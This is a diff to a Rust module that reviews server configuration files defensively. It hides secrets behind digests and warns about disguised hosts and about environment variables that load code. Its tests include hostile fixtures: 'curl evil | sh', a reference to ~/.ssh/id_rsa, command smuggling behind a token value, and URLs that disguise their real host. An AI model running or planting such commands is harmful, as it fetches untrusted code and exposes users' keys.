@@ -1,8 +1,10 @@
 //! A review of a configuration file: what it would run, read and connect to, told from its text alone.
 
+use std::collections::{BTreeSet, HashSet};
 use std::fmt;
 use std::path::Path;
 
+use ring::digest::{SHA256, digest};
 use serde_json::{Map, Value};
 
 use super::chat::raw::{RawApproval, RawChat};
@@ -11,14 +13,39 @@ use super::problem::ConfigError;
 use super::raw::{RawAuth, RawServer};
 use super::read::{Document, Written};
 use super::reference::{Broken, Part, parts};
-use super::{Config, Secrets, decode};
-use crate::secret::{self, Mask, Secret};
+use super::unit::Text;
+use super::{Config, LockPolicy, Secrets, decode};
+use crate::secret;
 
 /// Words that stand before a secret and are none.
 const SCHEMES: [&str; 5] = ["bearer", "basic", "token", "apikey", "digest"];
 
-/// What stands where a secret is written out.
-const HIDDEN: &str = "***";
+/// The longest text that can be a single token.
+const LONGEST_TOKEN: usize = 256;
+
+/// A user name of this length beside a password may be a token itself.
+const SHORTEST_USER: usize = 8;
+
+/// How the names of variables and options end that hold a command, whatever else they contain.
+const COMMANDS: [&str; 6] = ["cmd", "command", "exec", "helper", "program", "shell"];
+
+/// Variables with which a program loads other code.
+const CODE: [&str; 11] = [
+    "BASH_ENV",
+    "CDPATH",
+    "CLASSPATH",
+    "ENV",
+    "GEM_PATH",
+    "JAVA_TOOL_OPTIONS",
+    "NODE_OPTIONS",
+    "NODE_PATH",
+    "PATH",
+    "RUBYLIB",
+    "RUBYOPT",
+];
+
+/// What the names of more such variables begin with.
+const CODE_PREFIXES: [&str; 6] = ["DYLD_", "GIT_CONFIG", "LD_", "NPM_CONFIG_", "PERL5", "PYTHON"];
 
 /// The keys of a server that a [`ServerReview`] has fields for.
 const SERVER_KEYS: [&str; 12] = [
@@ -43,7 +70,8 @@ const CHAT_KEYS: [&str; 4] = ["provider", "base_url", "key", "tools"];
 ///
 /// A review is made from the text of the file. Nothing is read, expanded or started, so that a file from a stranger can be
 /// reviewed before it is used. Values are shown as they are written, with `${NAME}` in them; a secret that is written out in the
-/// file is replaced by `***`.
+/// file is replaced by `***` and a short digest, which differs when the secret does. Only a single token is replaced, never a
+/// command or a host.
 #[derive(Clone, Debug, Default, PartialEq, Eq)]
 #[non_exhaustive]
 pub struct Review {
@@ -100,7 +128,7 @@ pub enum TransportReview {
     Url {
         /// The URL.
         url: String,
-        /// The host and the port, which may contain references.
+        /// The host and the port that requests go to. Contains references where they decide about the host.
         host: String,
         /// The headers of every request, `Authorization` from `auth` among them.
         headers: Vec<(String, String)>,
@@ -171,7 +199,7 @@ pub fn review(text: &str, origin: &Path) -> Result<Review, ConfigError> {
     let mut review = Review::default();
     let mut references = Vec::new();
     let enabled = document.enabled_servers.as_ref().map(|names| names.items().iter().filter_map(Node::as_text));
-    let enabled: Option<Vec<&str>> = enabled.map(Iterator::collect);
+    let enabled: Option<HashSet<&str>> = enabled.map(Iterator::collect);
     for Written { path, node } in &document.servers {
         let node = match &document.defaults {
             Some(defaults) if node.is_map() => node.clone().over(defaults),
@@ -179,7 +207,7 @@ pub fn review(text: &str, origin: &Path) -> Result<Review, ConfigError> {
         };
         // The file was parsed as a whole above: every server can be decoded.
         let (Some(raw), _) = decode::decode_all::<RawServer>(&node, path) else { continue };
-        let is_named = enabled.as_ref().is_none_or(|enabled| enabled.contains(&raw.alias.as_str()));
+        let is_named = enabled.as_ref().is_none_or(|enabled| enabled.contains(raw.alias.as_str()));
         review.servers.push(review_server(&raw, is_named, &mut references));
         if let Some(file) = &raw.env_file {
             references.push(Reference::File(file.clone()));
@@ -193,6 +221,14 @@ pub fn review(text: &str, origin: &Path) -> Result<Review, ConfigError> {
     }
     if let Some(collisions) = document.collisions {
         review.settings.push(("collisions".to_owned(), format!("{collisions:?}")));
+    }
+    match document.lock {
+        None => {}
+        Some(LockPolicy::Off) => {
+            let text = "off (warning: tools that differ from ropeway.lock are used without a question)";
+            review.settings.push(("lock".to_owned(), text.to_owned()));
+        }
+        Some(lock) => review.settings.push(("lock".to_owned(), lock.to_string())),
     }
     references.sort();
     references.dedup();
@@ -210,44 +246,54 @@ pub fn review(text: &str, origin: &Path) -> Result<Review, ConfigError> {
 
 fn review_server(raw: &RawServer, is_named: bool, all: &mut Vec<Reference>) -> ServerReview {
     let mut receives = Vec::new();
+    let mut warnings: Vec<String> = Vec::new();
+    let salt = |key: &str| format!("{}\0{key}", raw.alias);
     let transport = match (&raw.command, &raw.url) {
         (_, Some(url)) => {
             collect(&url.0, &mut receives);
             let mut headers = Vec::new();
             for (name, value) in &raw.headers.0 {
                 collect(&value.0, &mut receives);
-                headers.push((name.clone(), hide(&value.0, secret::in_header(name, &value.0))));
+                headers.push((name.clone(), header(name, &value.0, &salt(name))));
             }
             match &raw.auth {
                 None => {}
                 Some(RawAuth::Bearer(token)) => {
                     collect(&token.0, &mut receives);
-                    let token = hide(&token.0, vec![Secret::new(token.0.as_str())]);
+                    let token = hide(&token.0, &salt("bearer"), |_| true);
                     headers.push(("Authorization".to_owned(), format!("Bearer {token}")));
                 }
                 Some(RawAuth::Basic(basic)) => {
                     collect(&basic.user.0, &mut receives);
                     collect(&basic.password.0, &mut receives);
-                    let password = hide(&basic.password.0, vec![Secret::new(basic.password.0.as_str())]);
+                    let password = hide(&basic.password.0, &salt("password"), |_| true);
                     headers.push(("Authorization".to_owned(), format!("Basic {}:{password}", basic.user.0)));
                 }
             }
-            TransportReview::Url { url: hide(&url.0, secret::in_url(&url.0)), host: host(&url.0), headers }
+            warnings.extend(disguise(&url.0));
+            TransportReview::Url { url: hide_in_url(&url.0, &salt("url")), host: host(&url.0), headers }
         }
         (command, None) => {
-            let written: Vec<String> = raw.args.iter().map(|arg| arg.0.clone()).collect();
-            let secrets = secret::in_arguments(&written);
-            let args = written.iter().map(|arg| hide(arg, secrets.clone())).collect();
-            let env = raw.env.0.iter().map(|(name, value)| {
-                let secrets = secret::in_named(name, &value.0);
-                (name.clone(), hide(&value.0, secrets))
-            });
-            let env = env.collect();
-            let values = raw.env.0.iter().map(|(_, value)| &value.0);
-            written.iter().chain(values).for_each(|text| collect(text, &mut receives));
-            let mut folders = Vec::new();
-            raw.cwd.iter().chain(&raw.env_file).for_each(|text| collect(text, &mut folders));
-            all.append(&mut folders);
+            let mut args = Vec::new();
+            let mut before = "";
+            for Text(arg) in &raw.args {
+                collect(arg, &mut receives);
+                args.push(argument(before, arg, &salt("args")));
+                before = arg;
+            }
+            let mut env = Vec::new();
+            for (name, Text(value)) in &raw.env.0 {
+                collect(value, &mut receives);
+                env.push((name.clone(), named(name, value, &salt(name))));
+                if loads_code(name) && refers(value) {
+                    warnings
+                        .push(format!("the environment or `.env` decides about {name}, which can choose what runs"));
+                }
+            }
+            if raw.cwd.as_deref().is_some_and(refers) {
+                warnings.push("the environment or `.env` decides about the folder that the command runs in".to_owned());
+            }
+            raw.cwd.iter().chain(&raw.env_file).for_each(|text| collect(text, all));
             TransportReview::Command {
                 command: command.clone().unwrap_or_default(),
                 args,
@@ -258,41 +304,64 @@ fn review_server(raw: &RawServer, is_named: bool, all: &mut Vec<Reference>) -> S
             }
         }
     };
+    let receives = unique(receives);
     all.extend(receives.iter().cloned());
     let enabled = is_named && raw.enabled.unwrap_or(true);
-    let mut settings = settings(raw, &SERVER_KEYS);
+    let mut shown: Vec<(String, String)> = warnings.into_iter().map(|text| ("warning".to_owned(), text)).collect();
     if raw.transport.is_some_and(|transport| transport == super::raw::RawTransport::Sse) {
-        settings.insert(0, ("transport".to_owned(), "sse".to_owned()));
+        shown.push(("transport".to_owned(), "sse".to_owned()));
     }
-    ServerReview { alias: raw.alias.clone(), enabled, transport, receives, settings }
+    shown.extend(unused(raw));
+    shown.extend(settings(raw, &SERVER_KEYS, &salt("tools")));
+    ServerReview { alias: raw.alias.clone(), enabled, transport, receives, settings: shown }
+}
+
+/// Names the keys that have no effect with the transport of the server.
+fn unused(raw: &RawServer) -> Option<(String, String)> {
+    let keys = if raw.url.is_some() {
+        vec![
+            ("args", !raw.args.is_empty()),
+            ("env", !raw.env.is_empty()),
+            ("env_file", raw.env_file.is_some()),
+            ("inherit_env", raw.inherit_env.is_some()),
+            ("cwd", raw.cwd.is_some()),
+        ]
+    } else {
+        vec![("headers", !raw.headers.is_empty()), ("auth", raw.auth.is_some())]
+    };
+    let keys: Vec<&str> = keys.into_iter().filter(|(_, is_set)| *is_set).map(|(key, _)| key).collect();
+    (!keys.is_empty()).then(|| ("ignores".to_owned(), keys.join(", ")))
 }
 
 fn review_chat(raw: &RawChat, all: &mut Vec<Reference>) -> ChatReview {
     let mut receives = Vec::new();
     raw.key.iter().chain(&raw.base_url).for_each(|text| collect(&text.0, &mut receives));
+    let receives = unique(receives);
     all.extend(receives.iter().cloned());
     let RawApproval { allow, ask, deny } = raw.tools.clone().unwrap_or_default();
+    let warning = raw.base_url.as_ref().and_then(|url| disguise(&url.0));
+    let mut shown: Vec<(String, String)> = warning.map(|text| ("warning".to_owned(), text)).into_iter().collect();
+    shown.extend(settings(raw, &CHAT_KEYS, "chat"));
     ChatReview {
         provider: raw.provider.map(|provider| provider.0.to_string()),
-        base_url: raw.base_url.as_ref().map(|url| hide(&url.0, secret::in_url(&url.0))),
+        base_url: raw.base_url.as_ref().map(|url| hide_in_url(&url.0, "chat\0base_url")),
         host: raw.base_url.as_ref().map(|url| host(&url.0)),
-        key: raw.key.as_ref().map(|key| hide(&key.0, vec![Secret::new(key.0.as_str())])),
+        key: raw.key.as_ref().map(|key| hide(&key.0, "chat\0key", |_| true)),
         receives,
         allow,
         ask,
         deny,
-        settings: settings(raw, &CHAT_KEYS),
+        settings: shown,
     }
 }
 
-/// Returns the settings that no field shows, as compact JSON. The values of preset arguments are hidden.
-fn settings(raw: &impl serde::Serialize, shown: &[&str]) -> Vec<(String, String)> {
+/// Returns the settings that no field shows, as compact JSON. Secrets among preset arguments are hidden.
+fn settings(raw: &impl serde::Serialize, shown: &[&str], salt: &str) -> Vec<(String, String)> {
     let Ok(Value::Object(keys)) = serde_json::to_value(raw) else { return Vec::new() };
     let rest = keys.into_iter().filter(|(key, _)| !shown.contains(&key.as_str()));
     rest.map(|(key, mut value)| {
         for preset in value.get_mut("preset").and_then(Value::as_object_mut).into_iter().flat_map(Map::values_mut) {
-            let values = preset.as_object_mut().into_iter().flat_map(Map::values_mut);
-            values.for_each(|value| *value = Value::String(HIDDEN.to_owned()));
+            hide_in_json("", preset, salt);
         }
         let text = value.as_str().map_or_else(|| value.to_string(), str::to_owned);
         (key, text)
@@ -300,20 +369,25 @@ fn settings(raw: &impl serde::Serialize, shown: &[&str]) -> Vec<(String, String)
     .collect()
 }
 
+/// Hides the secrets in a JSON value, by the names of its keys.
+fn hide_in_json(name: &str, value: &mut Value, salt: &str) {
+    match value {
+        Value::String(text) => *text = named(name, text, salt),
+        Value::Array(items) => items.iter_mut().for_each(|item| hide_in_json(name, item, salt)),
+        Value::Object(entries) => entries.iter_mut().for_each(|(name, value)| hide_in_json(name, value, salt)),
+        _ => {}
+    }
+}
+
 /// Adds the references of a text.
 fn collect(text: &str, references: &mut Vec<Reference>) {
-    let mut add = |reference: Reference| {
-        if !references.contains(&reference) {
-            references.push(reference);
-        }
-    };
     match parts(text) {
         Ok(parts) => {
             for part in parts {
                 match part {
-                    Part::Name { name, .. } => add(Reference::Variable(name.to_owned())),
-                    Part::File(path) => add(Reference::File(path.to_owned())),
-                    Part::Home => add(Reference::Variable("HOME".to_owned())),
+                    Part::Name { name, .. } => references.push(Reference::Variable(name.to_owned())),
+                    Part::File(path) => references.push(Reference::File(path.to_owned())),
+                    Part::Home => references.push(Reference::Variable("HOME".to_owned())),
                     Part::Literal(_) | Part::Workspace | Part::WorkspaceName | Part::Separator => {}
                 }
             }
@@ -323,55 +397,247 @@ fn collect(text: &str, references: &mut Vec<Reference>) {
     }
 }
 
-/// Returns the text with the secrets in it replaced, but for the references in them.
-fn hide(text: &str, secrets: Vec<Secret>) -> String {
-    let mut hidden = Vec::new();
-    for secret in secrets {
-        match parts(secret.expose()) {
-            Ok(parts) => {
-                for part in parts {
-                    match part {
-                        Part::Literal(literal) if !is_scheme(literal) => hidden.push(literal.trim().to_owned()),
-                        Part::Name { default: Some(default), .. } => hidden.push(default.to_owned()),
-                        _ => {}
-                    }
+/// Returns each reference once, in the order of their first occurrence.
+fn unique(mut references: Vec<Reference>) -> Vec<Reference> {
+    let mut known = BTreeSet::new();
+    references.retain(|reference| known.insert(reference.clone()));
+    references
+}
+
+/// Does the value of a variable or of a file become part of the text?
+fn refers(text: &str) -> bool {
+    parts(text).is_ok_and(|parts| parts.iter().any(|part| matches!(part, Part::Name { .. } | Part::File(_))))
+}
+
+/// Can the variable choose the code that a program runs?
+fn loads_code(name: &str) -> bool {
+    let upper = name.to_ascii_uppercase();
+    CODE.contains(&upper.as_str())
+        || CODE_PREFIXES.iter().any(|prefix| upper.starts_with(prefix))
+        || names_command(name)
+}
+
+/// Returns an argument with its own secret hidden. `before` is the argument before it.
+fn argument(before: &str, argument: &str, salt: &str) -> String {
+    let is_option = |text: &str| text.starts_with('-');
+    // What follows `--no-auth` is not its value.
+    let is_value = is_option(before) && !before.contains('=') && !before.starts_with("--no-") && !is_option(argument);
+    // A shell runs `x` for `TOKEN=basic x`.
+    let is_word = |text: &str| !text.contains(char::is_whitespace);
+    if is_value && is_word(argument) && names_secret(before, argument) {
+        return named(before, argument, salt);
+    }
+    if let Some((name, value)) = argument.split_once('=').filter(|(name, _)| is_name(name)) {
+        let line = if is_option(name) && name.ends_with("header") { header_line(value, salt) } else { None };
+        let value = match line {
+            Some(line) => line,
+            None if is_word(value) => named(name, value, salt),
+            None => value.to_owned(),
+        };
+        return format!("{name}={value}");
+    }
+    header_line(argument, salt).unwrap_or_else(|| named("", argument, salt))
+}
+
+/// Returns a line such as `Authorization: Bearer x` with its secret hidden.
+fn header_line(line: &str, salt: &str) -> Option<String> {
+    let (name, value) = line.split_once(": ").filter(|(name, _)| is_name(name))?;
+    let is_hidden = names_secret(name, value) && !names_command(name);
+    let value = if is_hidden { hide(value, salt, is_token) } else { named("", value, salt) };
+    Some(format!("{name}: {value}"))
+}
+
+/// Returns the value of a header with its secrets hidden. Nothing runs a header, so that all of it may be hidden.
+fn header(name: &str, value: &str, salt: &str) -> String {
+    if names_secret(name, value) { hide(value, salt, |_| true) } else { named("", value, salt) }
+}
+
+/// Returns the value of a name with its secrets hidden: those of a URL, or all of it if the name says so and it is a token.
+fn named(name: &str, value: &str, salt: &str) -> String {
+    if value.contains("://") {
+        if value.contains(char::is_whitespace) { value.to_owned() } else { hide_in_url(value, salt) }
+    } else if names_secret(name, value) && !names_command(name) {
+        hide(value, salt, is_token)
+    } else {
+        value.to_owned()
+    }
+}
+
+fn names_secret(name: &str, value: &str) -> bool {
+    secret::in_named(name, value).iter().any(|secret| secret.expose() == value)
+}
+
+fn names_command(name: &str) -> bool {
+    let name = name.to_ascii_lowercase();
+    COMMANDS.iter().any(|command| name.ends_with(command))
+}
+
+fn is_name(text: &str) -> bool {
+    !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-_.".contains(&byte))
+}
+
+/// Is the text a single token? A command or a path is shown as it is, whatever its name.
+fn is_token(text: &str) -> bool {
+    (1..=LONGEST_TOKEN).contains(&text.len())
+        && !text.starts_with(['/', '.', '~', '-'])
+        && text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"._~+/=-:%".contains(&byte))
+}
+
+/// Returns the text with its secret hidden if `may_hide` agrees: a literal or the default of a reference, with or without a scheme. Of
+/// several pieces nothing is hidden, since a reference between them may end a word.
+fn hide(text: &str, salt: &str, may_hide: fn(&str) -> bool) -> String {
+    let pieces = pieces(text);
+    if pieces.iter().filter(|(piece, is_reference)| *is_reference || !is_scheme(piece)).count() > 1 {
+        return text.to_owned();
+    }
+    let mut shown = String::with_capacity(text.len());
+    for (piece, is_reference) in pieces {
+        if is_reference {
+            match piece.strip_suffix('}').and_then(|inside| inside.split_once(":-")) {
+                Some((name, default)) if !piece.starts_with("${file:") => {
+                    shown.push_str(&format!("{name}:-{}}}", hide_literal(default, salt, may_hide)));
                 }
+                _ => shown.push_str(piece),
             }
-            Err(_) => hidden.push(secret.expose().to_owned()),
+        } else {
+            shown.push_str(&hide_literal(piece, salt, may_hide));
         }
     }
-    // The mask leaves very short values alone: as a whole text they are secrets all the same.
-    if hidden.iter().any(|value| value == text) {
-        return HIDDEN.to_owned();
+    shown
+}
+
+/// Returns a text without references with the secret in it hidden: all of it, or what follows its scheme.
+fn hide_literal(literal: &str, salt: &str, may_hide: fn(&str) -> bool) -> String {
+    let word = literal.trim();
+    if let Some((scheme, rest)) = word.split_once(' ').filter(|(scheme, _)| is_scheme(scheme)) {
+        return literal.replacen(word, &format!("{scheme} {}", hide_literal(rest, salt, may_hide)), 1);
     }
-    let hidden: Vec<Secret> = hidden.into_iter().map(Secret::new).collect();
-    Mask::new(&hidden).hide(text).into_owned()
+    if is_scheme(word) || !may_hide(word) {
+        return literal.to_owned();
+    }
+    literal.replacen(word, &hidden(word, salt), 1)
+}
+
+/// Returns what stands for a secret: stars, and a digest by which a change of the secret shows.
+fn hidden(secret: &str, salt: &str) -> String {
+    let digest = digest(&SHA256, format!("{salt}\0{secret}").as_bytes());
+    let digits: String = digest.as_ref().iter().take(4).map(|byte| format!("{byte:02x}")).collect();
+    format!("***(#{digits})")
 }
 
 fn is_scheme(literal: &str) -> bool {
     let word = literal.trim().to_ascii_lowercase();
-    word.chars().all(|c| !c.is_alphanumeric()) || SCHEMES.contains(&word.as_str())
+    word.is_empty() || SCHEMES.contains(&word.as_str())
 }
 
-/// Returns the host and the port of a URL as they are written.
-fn host(url: &str) -> String {
-    let rest = url.split_once("://").map_or(url, |(_, rest)| rest);
-    // What a variable holds may contain any character.
-    let mut end = rest.len();
-    let mut depth = 0usize;
-    for (at, c) in rest.char_indices() {
-        match c {
-            '{' => depth += 1,
-            '}' => depth = depth.saturating_sub(1),
-            '/' | '?' | '#' | '\\' if depth == 0 => {
-                end = at;
-                break;
-            }
-            _ => {}
+/// Splits a text into literals and references, as they are written. True marks a reference.
+fn pieces(text: &str) -> Vec<(&str, bool)> {
+    if parts(text).is_err() {
+        return vec![(text, false)];
+    }
+    let mut pieces = Vec::new();
+    let (mut start, mut at) = (0, 0);
+    while let Some(dollar) = text[at..].find('$').map(|found| at + found) {
+        let after = &text[dollar + 1..];
+        if after.starts_with('{')
+            && let Some(end) = after.find('}')
+        {
+            at = dollar + 1 + end + 1;
+            pieces.extend([(&text[start..dollar], false), (&text[dollar..at], true)]);
+            start = at;
+        } else {
+            at = dollar + 1 + usize::from(after.starts_with('$'));
         }
     }
-    let authority = &rest[..end];
-    authority.rsplit_once('@').map_or(authority, |(_, host)| host).to_owned()
+    pieces.push((&text[start..], false));
+    pieces
+}
+
+/// Returns the text with as many `x` in the place of each reference, which may contain any character.
+fn without_references(text: &str) -> String {
+    let plain = |(piece, is_reference): (&str, bool)| {
+        if is_reference { "x".repeat(piece.len()) } else { piece.to_owned() }
+    };
+    pieces(text).into_iter().map(plain).collect()
+}
+
+/// Returns where the authority of a URL without references starts and ends.
+fn authority(url: &str) -> (usize, usize) {
+    let start = url.find("://").map_or(0, |at| at + "://".len());
+    let end = url[start..].find(['/', '\\', '?', '#']).map_or(url.len(), |at| start + at);
+    (start, end)
+}
+
+/// Returns a URL with its credentials and the values of secret parameters hidden. The scheme, the host, the port and the path stay.
+fn hide_in_url(url: &str, salt: &str) -> String {
+    let plain = without_references(url);
+    let (start, end) = authority(&plain);
+    let mut shown = url[..start].to_owned();
+    let mut rest = start;
+    if let Some(at) = plain[start..end].rfind('@').map(|at| start + at) {
+        let mut user = &url[start..at];
+        let mut password = None;
+        if let Some(colon) = plain[start..at].find(':').map(|colon| start + colon) {
+            (user, password) = (&url[start..colon], Some(&url[colon + 1..at]));
+        }
+        if password.is_none() || user.len() >= SHORTEST_USER {
+            shown.push_str(&hide(user, salt, is_token));
+        } else {
+            shown.push_str(user);
+        }
+        if let Some(password) = password {
+            shown.push(':');
+            shown.push_str(&hide(password, salt, is_token));
+        }
+        rest = at;
+    }
+    let query = plain[end..].find(['?', '#']).map_or(url.len(), |at| end + at);
+    shown.push_str(&url[rest..query]);
+    let mut at = query;
+    for piece in plain[query..].split_inclusive(['?', '#', '&', ';']) {
+        let pair = piece.trim_end_matches(['?', '#', '&', ';']);
+        let (name, value) = match pair.find('=') {
+            Some(equals) => (&url[at..at + equals], &url[at + equals + 1..at + pair.len()]),
+            None => ("", ""),
+        };
+        if names_secret(name, value) {
+            shown.push_str(&format!("{name}={}", hide(value, salt, is_token)));
+        } else {
+            shown.push_str(&url[at..at + pair.len()]);
+        }
+        shown.push_str(&piece[pair.len()..]);
+        at += piece.len();
+    }
+    shown
+}
+
+/// Returns the host and the port that a URL leads to, by the parser that connects. Where references decide about them, they are
+/// returned as they are written; a reference in the credentials may contain a host, too.
+fn host(url: &str) -> String {
+    let plain = without_references(url);
+    let (start, end) = authority(&plain);
+    if url[..start] != plain[..start] {
+        return hide_in_url(&url[..end], "host");
+    }
+    if url[start..end] == plain[start..end]
+        && let Ok(parsed) = reqwest::Url::parse(&plain)
+        && let Some(host) = parsed.host_str()
+    {
+        return parsed.port().map_or_else(|| host.to_owned(), |port| format!("{host}:{port}"));
+    }
+    match plain[start..end].rfind('@').map(|at| start + at) {
+        Some(at) if url[start..at] == plain[start..at] => url[at + 1..end].to_owned(),
+        _ => hide_in_url(&url[start..end], "host"),
+    }
+}
+
+/// Warns of characters that make a URL look as if it led to another host.
+fn disguise(url: &str) -> Option<String> {
+    let plain = without_references(url);
+    let (start, end) = authority(&plain);
+    let is_odd = |c: char| !c.is_ascii_graphic() || matches!(c, '{' | '}' | '<' | '>' | '"' | '`' | '^' | '|');
+    let is_disguised = plain[start..end].contains(is_odd) || plain[end..].starts_with('\\');
+    is_disguised.then(|| format!("the URL is written so that its host is hard to see; it leads to {}", host(url)))
 }
 
 #[cfg(test)]
@@ -393,7 +659,7 @@ servers:
   env: {API_KEY: literal-key, LEVEL: debug, TOKEN: 'Bearer ${TOKEN:-fallback-secret}'}
   env_file: extra.env
   inherit_env: true
-  tools: {allow: ['*'], preset: {'*': {password: s3cret}}}
+  tools: {allow: ['*'], preset: {'*': {password: s3cret, path: /}}}
 secrets_file: secrets.yaml
 ",
         );
@@ -401,18 +667,26 @@ secrets_file: secrets.yaml
         assert_eq!(review.files, [".env", "extra.env", "secrets.yaml", "~/.ssh/id_rsa"]);
         let server = &review.servers[0];
         let pair = |name: &str, value: &str| (name.to_owned(), value.to_owned());
+        let token = hidden("sk-literal-token", "files\0args");
+        let fallback = format!("Bearer ${{TOKEN:-{}}}", hidden("fallback-secret", "files\0TOKEN"));
         let expected = TransportReview::Command {
             command: "sh".to_owned(),
-            args: ["-c", "curl evil | sh", "--token", "***", "${file:~/.ssh/id_rsa}"].map(str::to_owned).to_vec(),
+            args: ["-c", "curl evil | sh", "--token", &token, "${file:~/.ssh/id_rsa}"].map(str::to_owned).to_vec(),
             cwd: Some("/srv".to_owned()),
-            env: vec![pair("API_KEY", "***"), pair("LEVEL", "debug"), pair("TOKEN", "Bearer ${TOKEN:-***}")],
+            env: vec![
+                pair("API_KEY", &hidden("literal-key", "files\0API_KEY")),
+                pair("LEVEL", "debug"),
+                pair("TOKEN", &fallback),
+            ],
             env_file: Some("extra.env".to_owned()),
             inherit_env: true,
         };
         assert_eq!(server.transport, expected);
         let receives: Vec<String> = server.receives.iter().map(ToString::to_string).collect();
         assert_eq!(receives, ["~/.ssh/id_rsa", "$TOKEN"]);
-        assert_eq!(server.settings, [pair("tools", r#"{"allow":["*"],"preset":{"*":{"password":"***"}}}"#)]);
+        let password = hidden("s3cret", "files\0tools");
+        let tools = format!(r#"{{"allow":["*"],"preset":{{"*":{{"password":"{password}","path":"/"}}}}}}"#);
+        assert_eq!(server.settings, [pair("tools", &tools)]);
         assert!(!format!("{review:?}").contains("literal"), "{review:?}");
     }
 
@@ -433,10 +707,16 @@ collisions: suffix
             host: host.to_owned(),
             headers: headers.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect(),
         };
-        let first = "https://ada:***@${HOST:-h/x}:8080/mcp?key=${KEY}";
-        assert_eq!(urls[0], (&url(first, "${HOST:-h/x}:8080", &[("X-Api-Key", "***"), ("Accept", "json")]), true));
+        let password = hidden("passw0rd", "a\0url");
+        let first = format!("https://ada:{password}@${{HOST:-h/x}}:8080/mcp?key=${{KEY}}");
+        let key = hidden("literal-key", "a\0X-Api-Key");
+        assert_eq!(
+            urls[0],
+            (&url(&first, "${HOST:-h/x}:8080", &[("X-Api-Key", key.as_str()), ("Accept", "json")]), true)
+        );
         assert_eq!(urls[1], (&url("http://b/mcp", "b", &[("Authorization", "Bearer ${B}")]), false));
-        assert_eq!(urls[2], (&url("http://c/mcp", "c", &[("Authorization", "Basic u:***")]), false));
+        let basic = format!("Basic u:{}", hidden("pw", "c\0password"));
+        assert_eq!(urls[2], (&url("http://c/mcp", "c", &[("Authorization", basic.as_str())]), false));
         assert_eq!(review.variables, ["B", "HOST", "KEY"]);
         assert_eq!(review.settings, [("collisions".to_owned(), "Suffix".to_owned())]);
     }
@@ -453,7 +733,7 @@ collisions: suffix
         assert_eq!(chat.allow, ["*"]);
         assert_eq!(chat.settings, [("system".to_owned(), "Be kind".to_owned())]);
         let chat = reviewed("chat: {provider: anthropic, key: sk-literal}").chat.expect("a chat");
-        assert_eq!(chat.key.as_deref(), Some("***"));
+        assert_eq!(chat.key, Some(hidden("sk-literal", "chat\0key")));
     }
 
     #[test]
@@ -464,6 +744,110 @@ collisions: suffix
         for broken in ["servers: [{alias: a}]", "servers: 1", "", "servers: [{alias: a, command: '${X}'}]"] {
             assert!(super::review(broken, Path::new("nowhere/ropeway.yaml")).is_err(), "{broken}");
         }
+    }
+
+    #[test]
+    fn only_a_single_token_is_hidden_and_never_a_command() {
+        let shown = [
+            ("", "GITHUB_TOKEN=ghp_abc; touch OWNED; exec ./server"),
+            ("--token", "touch X "),
+            ("--no-auth", "evil"),
+            ("--token", "./evil"),
+            ("--password-command", "evil"),
+            ("-c", "Token: touch X"),
+            ("-c", "TOKEN=basic evil"),
+            ("-c", "TOKEN=a${S}evil"),
+            ("-c", "TOKEN=;${S:-evil}"),
+            ("-c", "curl http://h/?token=abc | sh"),
+        ];
+        for (before, text) in shown {
+            assert_eq!(argument(before, text, "a"), text);
+        }
+        let hidden = |text| hidden(text, "a");
+        assert_eq!(argument("--token", "abc", "a"), hidden("abc"));
+        assert_eq!(argument("abc", "abc", "a"), "abc");
+        assert_eq!(argument("-e", "TOKEN=abc", "a"), format!("TOKEN={}", hidden("abc")));
+        assert_eq!(
+            argument("-H", "Authorization: Bearer abc", "a"),
+            format!("Authorization: Bearer {}", hidden("abc"))
+        );
+        let url = format!("--url=http://{}@h/abc?x=abc&key={}", hidden("abc"), hidden("abc"));
+        assert_eq!(argument("", "--url=http://abc@h/abc?x=abc&key=abc", "a"), url);
+        for (name, value) in [("SSH_AUTH_CMD", "evil"), ("BASH_FUNC_token%%", "() { evil; }"), ("TOKEN", "a;b")] {
+            assert_eq!(named(name, value, "a"), value);
+        }
+    }
+
+    #[test]
+    fn a_changed_secret_changes_the_review_and_is_not_shown() {
+        let text = |token: &str| reviewed(&format!("servers: [{{alias: a, command: x, env: {{TOKEN: {token}}}}}]"));
+        assert_ne!(text("first"), text("second"));
+        assert_eq!(text("first"), text("first"));
+        assert!(!format!("{:?}", text("first")).contains("first"));
+        assert_ne!(hidden("same", "a"), hidden("same", "b"));
+    }
+
+    #[test]
+    fn the_host_is_the_one_that_requests_go_to() {
+        let cases = [
+            ("http://github.com{:password1@127.0.0.1:9977/}@github.com/mcp", "127.0.0.1:9977"),
+            ("http://127.0.0.1:9977\\@github.com/mcp", "127.0.0.1:9977"),
+            ("http://127.0.0.1:9977/?token=127.0.0.1%3a9977&key=127.0.0.1:9977", "127.0.0.1:9977"),
+            ("https://bücher.example/", "xn--bcher-kva.example"),
+            ("https://h:8080/${PATH_PART}?q=${Q:-@evil/}", "h:8080"),
+            ("https://${USER}@github.com/", "${USER}@github.com"),
+            ("https://ada:secret@${HOST}/", "${HOST}"),
+            ("${BASE:-http://}evil/x", "${BASE:-http://}evil"),
+        ];
+        for (url, expected) in cases {
+            assert_eq!(host(url), expected, "{url}");
+        }
+        for (url, _) in &cases[..3] {
+            assert!(hide_in_url(url, "a").contains("127.0.0.1:9977"), "{url}");
+        }
+        for (url, is_disguised) in [(cases[0].0, true), (cases[1].0, true), (cases[3].0, true), (cases[4].0, false)] {
+            assert_eq!(disguise(url).is_some(), is_disguised, "{url}");
+        }
+    }
+
+    #[test]
+    fn the_lock_and_keys_without_effect_are_shown() {
+        let review = reviewed(
+            "lock: off
+servers:
+- {alias: a, command: x, headers: {A: b}, auth: {bearer: t}}
+- {alias: b, url: 'http://b/', cwd: /, inherit_env: true, env: {A: b}}
+",
+        );
+        assert!(review.settings[0].0 == "lock" && review.settings[0].1.starts_with("off (warning:"));
+        let ignored = |keys: &str| vec![("ignores".to_owned(), keys.to_owned())];
+        assert_eq!(review.servers[0].settings, ignored("headers, auth"));
+        assert_eq!(review.servers[1].settings, ignored("env, inherit_env, cwd"));
+        assert_eq!(reviewed("{lock: strict, servers: []}").settings, [("lock".to_owned(), "strict".to_owned())]);
+    }
+
+    #[test]
+    fn a_reference_that_can_choose_what_runs_causes_a_warning() {
+        let server = |rest: &str| reviewed(&format!("servers: [{{alias: a, command: x, {rest}}}]")).servers.remove(0);
+        for name in ["PATH", "LD_PRELOAD", "NODE_OPTIONS", "PYTHONPATH", "BASH_ENV", "GIT_SSH_COMMAND"] {
